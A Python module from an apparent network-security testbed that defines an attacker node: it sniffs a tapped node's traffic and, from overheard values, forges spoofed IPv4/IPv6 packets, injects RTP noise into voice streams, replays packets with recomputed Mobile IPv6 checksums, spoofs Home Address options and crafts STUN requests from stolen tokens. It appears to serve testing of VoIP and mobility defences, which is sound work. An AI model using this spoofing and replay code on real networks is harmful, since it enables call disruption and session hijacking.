"""Somebody else on the network: hears what a tap gives, and sends what is not his to send.

Each attack is a template with places for what was overheard (`{…}`): made on the host, filled in here, at its time.
What comes from his own address leaves by a socket like anybody's; what is in another's name, speech, and what is no
SIP, scapy makes.
"""

import contextlib
import os
import re
import selectors
import socket
import time
from typing import cast

from scapy.layers.inet import IP, UDP
from scapy.layers.inet6 import HAO, IPv6, IPv6ExtHdrDestOpt, in6_chksum
from scapy.layers.rtp import RTP
from scapy.packet import Packet, Raw

from agents.mip6.mobility_header import MOBILITY
from agents.stun.stun_message import MessageClass, StunMessage
from testbed.lab.attack_plan import STRANGE_HOPS, Attack, Passing, Strange, StunTemplate
from testbed.lab.network.addresses import is_ip6
from testbed.lab.processes.overheard import NOISE, SAMPLES, SIP_PORT, HeardPacket, Overheard
from testbed.lab.processes.overheard import UDP as UDP_NUMBER
from testbed.lab.processes.stolen_tokens import binding_by_tokens
from testbed.lab.spaces import NodeSpace, entered

ETH_P_IP, ETH_P_IPV6 = 0x0800, 0x86DD
# include/uapi/asm-generic/socket.h; Python's socket module does not name it.
SO_RCVBUFFORCE = 33
BUFFER = 8 << 20
CHECKSUM = slice(4, 6)
TRANSACTION_BYTES = 12


class Attacker:
    """`nodes` are where attacks come from; `tap` is the node whose traffic is overheard.

    Whoever asks `selector` calls what is registered there: so what passes is sent again at once.
    """

    def __init__(self, nodes: dict[str, NodeSpace], tap: NodeSpace, selector: selectors.BaseSelector) -> None:
        self._nodes, self._selector = nodes, selector
        self._taps = [
            socket_in(tap, socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(kind)) for kind in (ETH_P_IP, ETH_P_IPV6)
        ]
        for one in self._taps:
            one.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, BUFFER)
            one.setblocking(False)
        self._raw: dict[tuple[str, int], socket.socket] = {}
        # Answers are taken, as a phone would: else the kernel answers them with ICMP.
        self._taking: dict[tuple[str, int], socket.socket] = {}
        for name in nodes:
            self._take_answers(name, SIP_PORT)
        self._heard = Overheard()
        # What is sent again as soon as it passes, and how often it still may be.
        self._repeating: Attack | None = None
        self._repeats_left, self._repeats_until = 0, 0.0

    def attack(self, attack: Attack) -> None:
        """Sends an attack's packets; none when something that it needs has not been overheard."""
        self._hear()
        again = attack["strange"] and attack["strange"]["again"]
        if again and again["which"] == "each":
            self._rest()
            self._repeating, self._repeats_left = attack, attack["times"]
            self._repeats_until = time.monotonic() + again["for_s"]
            for tap in self._taps:
                self._selector.register(tap, selectors.EVENT_READ, self._hear)
            return
        with contextlib.suppress(KeyError):
            for number in range(attack["first"], attack["first"] + attack["times"]):
                self._send(attack, number)

    # -- inside -------------------------------------------------------------------------------------------------------

    def _hear(self) -> None:
        """Takes in what passed the tap, and sends again at once what is to be."""
        for tap in self._taps:
            with contextlib.suppress(BlockingIOError):
                while True:
                    packet = self._heard.hear(tap.recv(65536))
                    if packet is not None:
                        self._repeat(packet)

    def _send(self, attack: Attack, number: int) -> None:
        """One packet; raises KeyError for what was not overheard."""
        known = {**self._heard.known, "n": str(number)}
        if attack["strange"] is not None:
            self._send_packet(attack, self._strange(attack, attack["strange"], known, number))
            return
        target = attack["to"], int(fill(attack["port"], known))
        text = fill(attack["data"], known)
        data = self._speech(attack, number) if attack["speech"] else Raw(text.encode("latin-1"))
        if attack["is_raw"]:
            udp = UDP(sport=int(fill(attack["source_port"], known)), dport=target[1])
            packet = IP(src=attack["source"], dst=target[0]) / udp / data
            self._raw_of(attack).sendto(bytes(packet), (target[0], 0))
        else:
            self._taking[attack["node"], SIP_PORT].sendto(bytes(data), target)

    def _speech(self, attack: Attack, number: int) -> Packet:
        """Loud noise with the next numbers of a stream, or with numbers of its own."""
        stream, known = attack["speech"], self._heard.known
        ssrc, sequence, stamp = (int(known[f"{stream}/{name}"]) for name in ("ssrc", "sequence", "stamp"))
        if attack["guessed"]:
            ssrc, sequence = ssrc ^ 0x5A5A5A5A, sequence ^ 0x5A5A
        sequence, stamp = (sequence + number + 1) & 0xFFFF, (stamp + SAMPLES * (number + 1)) & 0xFFFFFFFF
        return RTP(payload_type=0, sequence=sequence, timestamp=stamp, sourcesync=ssrc) / Raw(NOISE)

    def _strange(self, attack: Attack, strange: Strange, known: dict[str, str], number: int) -> Packet:
        """What stands behind IP's header."""
        if strange["again"] is not None:
            return self._once_more(attack, self._heard.find(strange["again"]))
        ports = {"sport": int(fill(attack["source_port"], known)), "dport": int(fill(attack["port"], known))}
        if attack["speech"]:
            data = UDP(**ports) / self._speech(attack, number)
            if strange["inner"] is not None:
                source, target = strange["inner"]
                data = (IPv6 if is_ip6(source) else IP)(src=source, dst=target) / data
            return IPv6ExtHdrDestOpt(options=[HAO(hoa=strange["home"])]) / data if strange["home"] else data
        made = bytes.fromhex(fill(strange["octets"], known))
        if strange["stun"] is not None:
            made = request_of(strange["stun"], known)
        if strange["binding"] is not None:
            made = binding_by_tokens(strange["binding"], known)
        if strange["protocol"] != UDP_NUMBER:
            return Raw(made)
        if not attack["is_raw"]:
            self._take_answers(attack["node"], ports["sport"])
        return UDP(**ports) / Raw(made)

    def _once_more(self, attack: Attack, heard: HeardPacket) -> Packet:
        """What was heard, with the checksum that its other source wants."""
        if heard.protocol == UDP_NUMBER:
            sport, dport = (int.from_bytes(heard.payload[at : at + 2]) for at in (0, 2))
            if not attack["is_raw"]:
                self._take_answers(attack["node"], sport)
            return UDP(sport=sport, dport=dport) / Raw(heard.payload[8:])
        if heard.protocol == MOBILITY:
            bare = heard.payload[: CHECKSUM.start] + bytes(2) + heard.payload[CHECKSUM.stop :]
            checksum = in6_chksum(MOBILITY, IPv6(src=attack["source"], dst=attack["to"]), bare)
            return Raw(bare[: CHECKSUM.start] + checksum.to_bytes(2) + bare[CHECKSUM.stop :])
        return Raw(heard.payload)

    def _repeat(self, packet: HeardPacket) -> None:
        """Sends again what passed, as long as that is wanted."""
        attack = self._repeating
        if attack is None:
            return
        if not self._repeats_left or time.monotonic() > self._repeats_until:
            self._rest()
        elif packet.is_meant(cast("Passing", cast("Strange", attack["strange"])["again"])):
            self._repeats_left -= 1
            self._send_packet(attack, self._once_more(attack, packet))

    def _rest(self) -> None:
        if self._repeating is not None:
            self._repeating = None
            for tap in self._taps:
                self._selector.unregister(tap)

    def _send_packet(self, attack: Attack, payload: Packet) -> None:
        source, target, protocol = attack["source"], attack["to"], cast("Strange", attack["strange"])["protocol"]
        if is_ip6(target):
            packet = IPv6(src=source, dst=target, nh=protocol, hlim=STRANGE_HOPS) / payload
        else:
            packet = IP(src=source, dst=target, proto=protocol, ttl=STRANGE_HOPS) / payload
        self._raw_of(attack).sendto(bytes(packet), (target, 0))

    def _raw_of(self, attack: Attack) -> socket.socket:
        family = socket.AF_INET6 if is_ip6(attack["to"]) else socket.AF_INET
        place = attack["node"], int(family)
        if place not in self._raw:
            node = self._nodes[attack["node"]]
            self._raw[place] = socket_in(node, family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        return self._raw[place]

    def _take_answers(self, node: str, port: int) -> None:
        """Has a socket on a port of a node's."""
        if (node, port) not in self._taking:
            phone = socket_in(self._nodes[node], socket.AF_INET, socket.SOCK_DGRAM)
            phone.bind(("0.0.0.0", port))  # noqa: S104 - all of a namespace of its own
            self._taking[node, port] = phone


def request_of(template: StunTemplate, known: dict[str, str]) -> bytes:
    """A request of STUN; raises KeyError for what is not known."""
    attributes = tuple((number, bytes.fromhex(fill(value, known))) for number, value in template["attributes"])
    message = StunMessage(MessageClass.REQUEST, template["method"], os.urandom(TRANSACTION_BYTES), attributes)
    key = bytes.fromhex(template["key"]) if template["key"] else None
    return message.to_bytes(key, has_fingerprint=template["has_fingerprint"])


def socket_in(node: NodeSpace, *kind: int) -> socket.socket:
    """A socket that belongs to the node's network namespace."""
    with entered(node):
        return socket.socket(*kind)


def fill(template: str, known: dict[str, str]) -> str:
    """The template with its places filled in; raises KeyError for what is not known."""
    return re.sub(r"\{([^{}]+)\}", lambda place: known[place[1]], template)
